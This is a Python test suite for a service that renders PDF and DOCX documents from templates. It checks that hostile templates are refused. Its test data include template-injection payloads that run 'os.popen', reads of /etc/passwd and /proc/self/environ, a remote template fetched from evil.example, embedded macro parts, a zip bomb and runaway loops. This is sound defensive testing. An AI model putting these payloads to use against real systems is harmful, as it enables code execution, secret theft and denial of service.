"""What the press makes of templates, and that those which mean harm come to nothing, in words."""

from __future__ import annotations

import asyncio
import tempfile
from collections.abc import AsyncIterator
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document
from pypdf import PdfReader

from hub.paper_orders import MOST_TEMPLATE, Format, Paper
from hub.papers import Papers, UnmadeError

DATA: dict[str, object] = {
    "deal": {"title": "Seven <windows> & a door"},
    "lines": [{"name": "Glass"}, {"name": "Wood"}],
}
ATTACHED = (
    b'<Relationships><Relationship Id="1" TargetMode="External" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm"/></Relationships>'
)
ENTITY = b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'
TYPST = "#let data = json(bytes(sys.inputs.data))\n"


@pytest.fixture
async def papers() -> AsyncIterator[Papers]:
    """Give a press that is ended after the test."""
    press = Papers(seconds=60)
    yield press
    await press.close()


async def made(papers: Papers, template: str | bytes, kind: Format = "pdf") -> str:
    """Make a document and give its text."""
    raw = template.encode() if isinstance(template, str) else template
    content = await papers.make(Paper(format=kind, template=raw, data=DATA))
    if kind == "pdf":
        return "\n".join(page.extract_text() for page in PdfReader(BytesIO(content)).pages)
    return "\n".join(each.text for each in Document(BytesIO(content)).paragraphs)


async def fault(papers: Papers, template: str | bytes, kind: Format = "pdf") -> str:
    """Give why there is no document."""
    with pytest.raises(UnmadeError) as told:
        await made(papers, template, kind)
    return str(told.value)


def docx(*paragraphs: str) -> bytes:
    """Write a DOCX with these paragraphs."""
    document = Document()
    for each in paragraphs:
        document.add_paragraph(each)
    content = BytesIO()
    document.save(content)
    return content.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """Write a DOCX with a part more."""
    whole = BytesIO(docx("Hello"))
    with ZipFile(whole, "a", ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return whole.getvalue()


async def test_a_pdf_says_what_its_template_names(papers: Papers) -> None:
    text = await made(papers, TYPST + "Of #data.deal.title: #data.lines.map(each => each.name).join([ and ])")
    assert text == "Of Seven <windows> & a door: Glass and Wood"


async def test_a_docx_says_what_its_template_names(papers: Papers) -> None:
    template = docx("Of {{ deal.title }}:", "{%p for line in lines %}", "{{ line.name }}", "{%p endfor %}")
    assert await made(papers, template, "docx") == "Of Seven <windows> & a door:\nGlass\nWood"


async def test_the_same_template_and_data_make_the_same_pdf(papers: Papers) -> None:
    paper = Paper(format="pdf", template=b"Hello", data=DATA, at=1_795_000_000)
    assert await papers.make(paper) == await papers.make(paper)


async def test_a_missing_field_is_named_with_its_place(papers: Papers) -> None:
    assert await fault(papers, TYPST + "\nIts #data.deal.colour.") == (
        "The template names “colour”, which there is not. (template.typ, 3: Its #data.deal.colour.)"
    )
    assert await fault(papers, docx("First", "Its {{ deal.colour }}."), "docx") == (
        "The template names “colour”, which there is not. (Its {{ deal.colour }}.)"
    )
    assert "“colour”" in await fault(papers, docx("{{ colour.dark }}"), "docx")


async def test_what_is_not_right_is_quoted(papers: Papers) -> None:
    assert "(template.typ, 2: #let = 3)" in await fault(papers, "Hello\n#let = 3")
    assert "The template is not right" in await fault(papers, docx("{{ deal.title"), "docx")
    assert "The template is not right" in await fault(papers, docx("{{ deal.title + 3 }}"), "docx")


@pytest.mark.parametrize("template", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lines.__class__.__base__ }}",
    "{{ lines.append.__globals__ }}",
    "{{ lines.append('x') }}",
    "{{ deal.clear() }}",
    "{{ ''|attr('__class__') }}",
    "{{ '{0.__class__.__mro__}'.format(deal) }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__.__globals__ }}",
    "{% import 'os' as os %}{{ os }}",
    "{% include '/etc/passwd' %}",
])  # fmt: skip
async def test_code_in_a_docx_is_refused(papers: Papers, template: str) -> None:
    assert "The template" in await fault(papers, docx(template), "docx")
    assert await made(papers, docx("{{ deal.title }}"), "docx") == "Seven <windows> & a door"


@pytest.mark.parametrize("template", [
    '#read("/etc/passwd")', '#read("../../../../etc/passwd")', '#image("/proc/self/environ")', '#plugin("x.wasm")',
])  # fmt: skip
async def test_a_file_from_elsewhere_is_refused(papers: Papers, template: str) -> None:
    assert "a file that does not lie beside it" in await fault(papers, template)


@pytest.mark.parametrize(
    "template", ['#import "@preview/cetz:0.3.1"', '#import "@pre" + "view/cetz:0.3.1": *']
)
async def test_a_package_from_the_network_is_refused(papers: Papers, template: str) -> None:
    assert "a package from the network" in await fault(papers, template)


@pytest.mark.parametrize(("template", "kind"), [
    ("#while true {}", "pdf"),
    ("#{for i in range(99999999) { for j in range(9999999) {} }}", "pdf"),
    ('#let much = "a" * 100000000000', "pdf"),
    ("#{ let f(n) = f(n + 1); f(0) }", "pdf"),
    (docx("{{ 'a' * 10 ** 10 }}"), "docx"),
    (docx("{{ 9 ** (9 ** (9 ** 9)) }}"), "docx"),
])  # fmt: skip
async def test_what_takes_too_much_is_ended_and_the_next_is_made(
    papers: Papers, template: str | bytes, kind: Format
) -> None:
    papers._seconds = 3
    assert await fault(papers, template, kind)
    papers._seconds = 60  # the next press begins cold
    assert await made(papers, "Hello") == "Hello"


async def test_what_takes_too_long_is_ended_in_words() -> None:
    papers = Papers(seconds=1)
    template = docx("{% for a in lines * 9999 %}{% for b in lines * 9999 %}{% endfor %}{% endfor %}")
    assert await fault(papers, template, "docx") == "It takes longer than 1 s to make."
    await papers.close()


async def test_a_template_that_unpacks_to_too_much_is_refused(papers: Papers) -> None:
    assert "too large" in await fault(papers, with_part("word/media/bomb.bin", bytes(50_000_000)), "docx")
    assert "too large" in await fault(papers, bytes(MOST_TEMPLATE + 1), "docx")


@pytest.mark.parametrize(("name", "content"), [
    ("word/vbaProject.bin", b"x"),
    ("word/embeddings/oleObject1.bin", b"x"),
    ("word/_rels/settings.xml.rels", ATTACHED),
])  # fmt: skip
async def test_a_template_that_carries_a_program_or_loads_something_is_refused(
    papers: Papers, name: str, content: bytes
) -> None:
    assert "carries a program or loads something" in await fault(papers, with_part(name, content), "docx")


@pytest.mark.parametrize("content", [
    b"", b"PK\x03\x04", b"not a zip", docx("Hello")[:-200], with_part("word/x.xml", ENTITY),
])  # fmt: skip
async def test_what_is_no_docx_is_refused(papers: Papers, content: bytes) -> None:
    assert "no DOCX file" in await fault(papers, content, "docx")


async def test_the_press_that_was_killed_is_started_again(papers: Papers) -> None:
    assert await made(papers, "Hello") == "Hello"
    assert papers._press is not None
    papers._press.kill()
    await papers._press.wait()
    assert await made(papers, "Hello again") == "Hello again"


def left_in(folder: Path) -> list[str]:
    """Give the names of all that lies in a folder."""
    return [each.name for each in folder.rglob("*")]


@pytest.mark.parametrize("ended", ["by the hub", "since nobody asks any more"])
async def test_nothing_stays_behind_of_what_was_made(
    ended: str, papers: Papers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr(tempfile, "tempdir", None)
    await made(papers, "Hello")
    assert "template.typ" in left_in(tmp_path)
    if ended == "by the hub":
        await papers.close()
    else:
        assert papers._press is not None
        assert papers._press.stdin is not None
        papers._press.stdin.close()
        await papers._press.wait()
    assert left_in(tmp_path) == []


async def test_who_gives_up_waiting_does_not_spoil_the_next_document(papers: Papers) -> None:
    await made(papers, "Hello")
    given_up = asyncio.create_task(made(papers, "#{for i in range(9999999) { for j in range(9999) {} }}"))
    await asyncio.wait([given_up], timeout=0.3)
    given_up.cancel()
    await asyncio.wait([given_up])
    assert await made(papers, "The next") == "The next"
